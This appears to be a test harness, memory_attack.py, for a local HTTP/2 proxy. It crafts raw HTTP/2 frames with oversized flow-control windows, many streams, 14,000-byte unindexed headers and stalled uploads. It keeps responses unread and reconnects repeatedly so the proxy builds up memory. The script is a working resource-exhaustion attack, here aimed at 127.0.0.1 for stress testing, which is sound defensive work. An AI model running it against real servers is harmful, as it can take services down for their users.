"""Makes a proxy hold as much as it can: memory_attack.py PORT HOW CONNECTIONS STREAMS. Connects again and again whenever
it is closed, until its input ends."""

import select
import socket
import struct
import sys
import threading

DATA, HEADERS, SETTINGS, WINDOW_UPDATE = 0, 1, 4, 8
END_STREAM, END_HEADERS = 1, 4
MOST = (1 << 31) - 1
TCP_ESTABLISHED = 1


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A field that enters no table."""
    length = len(value) - 127
    more = b""
    while length >= 128:
        more += bytes([length % 128 | 128])
        length //= 128
    coded = b"\x7f" + more + bytes([length]) if len(value) >= 127 else bytes([len(value)])
    return b"\x00" + bytes([len(name)]) + name + coded + value


def requests(how, streams):
    """All that one connection sends."""
    sent = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0 if how == "shut" else MOST))
    if how != "shut":
        sent += frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", MOST - 65535))
    for number in range(streams):
        stream = 2 * number + 1
        path = {"upload": b"/hold", "fields": b"/hold"}.get(how, b"/large")
        block = (b"\x83" if path == b"/hold" else b"\x82") + b"\x86\x41\x01a" + b"\x04" + bytes([len(path)]) + path
        if how == "fields":
            block += literal(b"x", b"y" * 14_000)
        sent += frame(HEADERS, END_HEADERS | (0 if path == b"/hold" else END_STREAM), stream, block)
        if how == "upload":
            sent += frame(DATA, 0, stream, bytes(16_000)) * 4
    return sent


def attack(port, data, until):
    """One connection after the other, each with all its requests; what comes back stays unread."""
    while not until.is_set():
        with socket.socket() as client:
            try:
                client.settimeout(5)
                client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                client.connect(("127.0.0.1", port))
                left = memoryview(data)
                while left and not until.is_set():
                    if select.select([], [client], [], 0.2)[1]:
                        left = left[client.send(left):]
                # It is over when the proxy resets the connection, or says that it ends.
                while not until.wait(0.1):
                    failed = client.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                    state = client.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0]
                    if failed or state != TCP_ESTABLISHED:
                        break
            except OSError:
                until.wait(0.05)


def main():
    port, how, connections, streams = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    data, until = requests(how, streams), threading.Event()
    threads = [threading.Thread(target=attack, args=(port, data, until), daemon=True) for _ in range(connections)]
    for thread in threads:
        thread.start()
    sys.stdin.read()
    until.set()
    for thread in threads:
        thread.join()


main()
